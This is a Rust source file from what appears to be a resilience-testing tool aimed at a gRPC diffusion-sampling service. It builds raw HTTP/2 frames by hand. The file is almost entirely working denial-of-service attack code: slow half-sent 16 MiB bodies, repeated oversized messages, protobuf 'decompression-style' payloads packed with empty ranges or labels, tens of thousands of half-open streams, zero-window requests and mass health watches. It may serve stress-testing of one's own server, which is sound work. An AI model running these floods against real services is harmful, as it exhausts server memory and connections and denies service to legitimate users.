//! Streams that are opened and not finished, and messages that are small to send and large to
//! decode.

use std::collections::BTreeMap;
use std::io;

use ddpm_proto::v1::GenerateRequest;
use prost::Message;
use tokio::time::{Duration, timeout, timeout_at};

use crate::attack::kind::{Target, hold, together};
use crate::attack::peer::Peer;
use crate::attack::wire::{
    END_HEADERS, END_STREAM, Frame, frame, headers, kind, message, raw_message,
};
use crate::load::{Shape, request};

/// Path of the method that draws samples.
const GENERATE: &str = "/ddpm.v1.SamplingService/Generate";

/// The largest message that a server takes.
const LARGEST: usize = 16 << 20;

/// Half bodies in all.
const HALF_BODIES: usize = 60;

/// A stream's window: the default of RFC 9113.
const WINDOW: u32 = 65_535;

/// The largest payload of a frame that every peer takes.
const MAX_FRAME: usize = 16_384;

/// A peer that sends as much as the server's windows allow.
struct Sender {
    peer: Peer,
    connection: i64,
    streams: BTreeMap<u32, i64>,
    initial: i64,
    /// Bytes of bodies that were sent.
    sent: u64,
}

impl Sender {
    async fn open(target: &Target, number: usize) -> io::Result<Self> {
        let peer = Peer::open(target.server, target.source(number), WINDOW).await?;
        let (connection, streams) = (i64::from(WINDOW), BTreeMap::new());
        let mut sender = Self { peer, connection, streams, initial: i64::from(WINDOW), sent: 0 };
        // The server's settings come first, and with them the window of new streams.
        let first = timeout(Duration::from_secs(5), sender.peer.next_frame()).await??;
        sender.take(&first);
        Ok(sender)
    }

    /// Opens a stream and sends all of `body`; with `ends`, its end too. Returns `false` if the
    /// server ended the stream first.
    async fn send(&mut self, stream: u32, body: &[u8], ends: bool) -> io::Result<bool> {
        let block = headers(GENERATE, &[]);
        self.peer.send(&frame(kind::HEADERS, END_HEADERS, stream, &block)).await?;
        self.streams.insert(stream, self.initial);
        let mut left = body;
        while !left.is_empty() {
            let Some(window) = self.streams.get(&stream).copied() else { return Ok(false) };
            let room = window.min(self.connection).clamp(0, MAX_FRAME as i64) as usize;
            let size = room.min(left.len());
            if size == 0 {
                let next = self.peer.next_frame().await?;
                self.take(&next);
                continue;
            }
            let flags = if ends && size == left.len() { END_STREAM } else { 0 };
            self.peer.send(&frame(kind::DATA, flags, stream, &left[..size])).await?;
            self.connection -= size as i64;
            self.sent += size as u64;
            self.streams.entry(stream).and_modify(|window| *window -= size as i64);
            left = &left[size..];
        }
        Ok(true)
    }

    fn take(&mut self, frame: &Frame) {
        let word = |at: usize| {
            let bytes = frame.payload.get(at..at + 4)?;
            Some(i64::from(u32::from_be_bytes(bytes.try_into().ok()?)))
        };
        match frame.kind {
            kind::WINDOW_UPDATE => {
                let more = word(0).unwrap_or(0);
                match frame.stream {
                    0 => self.connection += more,
                    stream => {
                        self.streams.entry(stream).and_modify(|window| *window += more);
                    }
                }
            }
            kind::SETTINGS => {
                for at in (0..frame.payload.len()).step_by(6) {
                    if frame.payload.get(at..at + 2) == Some(&[0, 4]) {
                        self.initial = word(at + 2).unwrap_or(self.initial);
                    }
                }
            }
            // The answer has ended, or was a refusal without a body.
            kind::RST_STREAM => {
                self.streams.remove(&frame.stream);
            }
            kind::HEADERS if frame.flags & END_STREAM != 0 => {
                self.streams.remove(&frame.stream);
            }
            _ => {}
        }
    }
}

/// Announces messages of 16 MiB, sends all but their last byte, and stays.
pub(crate) async fn half_bodies(target: Target) -> String {
    let count = target.sources.len();
    let sums = together(count, |number| half_bodies_of(target.clone(), number)).await;
    format!("{} MiB, {} bodies but for a byte", sums[0] >> 20, sums[1])
}

async fn half_bodies_of(target: Target, number: usize) -> Vec<u64> {
    let mut body = raw_message(&vec![0; LARGEST - 8]);
    body.pop();
    let Ok(mut sender) = Sender::open(&target, number).await else { return vec![0, 0] };
    let mut bodies = 0;
    let each = HALF_BODIES.div_ceil(target.sources.len()) as u32;
    let work = async {
        for stream in 0..each {
            bodies += u64::from(sender.send(2 * stream + 1, &body, false).await?);
        }
        // What is not finished is held.
        hold(&target).await;
        io::Result::Ok(())
    };
    // A server that closes the connection ends this attack; that is its right.
    let _ = timeout_at(target.until, work).await;
    vec![sender.sent, bodies]
}

/// Sends large messages whole, one after another on two connections per source.
pub(crate) async fn bombs(target: Target, content: &[u8]) -> String {
    let body: std::sync::Arc<[u8]> = raw_message(content).into();
    // Two at once from each, and not more than sixteen: the attacker's own memory is not at stake.
    let count = (2 * target.sources.len()).min(16);
    let sums = together(count, |number| bombs_of(target.clone(), number, body.clone())).await;
    format!("{} messages of {} bytes", sums[0], content.len())
}

async fn bombs_of(target: Target, number: usize, body: std::sync::Arc<[u8]>) -> Vec<u64> {
    let mut sent = 0;
    let work = async {
        while target.lasts() {
            let Ok(mut sender) = Sender::open(&target, number).await else {
                tokio::task::yield_now().await;
                continue;
            };
            let mut stream = 1;
            while let Ok(whole) = sender.send(stream, &body, true).await {
                sent += u64::from(whole);
                stream += 2;
            }
        }
    };
    // The end of the attack cuts the last message short.
    let _ = timeout_at(target.until, work).await;
    vec![sent]
}

/// Returns a message with as many empty index ranges as fit.
pub(crate) fn empty_ranges() -> Vec<u8> {
    let mut content =
        GenerateRequest { model: "glyphs".to_owned(), ..Default::default() }.encode_to_vec();
    // Field 4, `index_ranges`, with a length; in it field 1, `ranges`, of length 0.
    let ranges = [0x0a, 0x00].repeat((LARGEST - 64) / 2);
    content.push(0x22);
    prost::encoding::encode_varint(ranges.len() as u64, &mut content);
    content.extend(ranges);
    content
}

/// Returns a message with as many class labels as fit.
pub(crate) fn labels() -> Vec<u8> {
    let message = request(&Shape::glyphs(1, 10), 1);
    GenerateRequest { class_labels: vec![0; LARGEST - 128], ..message }.encode_to_vec()
}

/// Opens streams and sends no body.
pub(crate) async fn half_open(target: Target) -> String {
    let block = headers(GENERATE, &[]);
    let opening = |stream| frame(kind::HEADERS, END_HEADERS, stream, &block);
    format!("{} half-open streams", many_streams(&target, 20_000, WINDOW, opening).await)
}

/// Asks for samples and grants the answers no byte.
pub(crate) async fn zero_window(target: Target) -> String {
    let (block, body) = (headers(GENERATE, &[]), message(&request(&Shape::glyphs(1, 1), 1)));
    let opening = |stream| {
        let head = frame(kind::HEADERS, END_HEADERS, stream, &block);
        [head, frame(kind::DATA, END_STREAM, stream, &body)].concat()
    };
    format!("{} requests with a window of 0", many_streams(&target, 200, 0, opening).await)
}

/// Watches the server's health on every stream.
pub(crate) async fn watches(target: Target) -> String {
    let block = headers("/grpc.health.v1.Health/Watch", &[]);
    let opening = |stream| {
        let head = frame(kind::HEADERS, END_HEADERS, stream, &block);
        [head, frame(kind::DATA, END_STREAM, stream, &raw_message(&[]))].concat()
    };
    format!("{} health watches", many_streams(&target, 20_000, WINDOW, opening).await)
}

/// Opens `count` streams in all over one connection per source and holds them; returns how many
/// were sent.
async fn many_streams(
    target: &Target,
    count: usize,
    window: u32,
    opening: impl Fn(u32) -> Vec<u8>,
) -> usize {
    let (mut peers, mut sent) = (Vec::new(), 0);
    let each = count.div_ceil(target.sources.len());
    for number in 0..target.sources.len() {
        let Ok(mut peer) = Peer::open(target.server, target.source(number), window).await else {
            continue;
        };
        for first in (0..each).step_by(100) {
            let streams = first..(first + 100).min(each);
            let bytes: Vec<u8> =
                streams.clone().flat_map(|stream| opening(2 * stream as u32 + 1)).collect();
            if !target.lasts() || peer.send(&bytes).await.is_err() || peer.drain().is_err() {
                break;
            }
            sent += streams.len();
        }
        peers.push(peer);
    }
    hold(target).await;
    sent
}
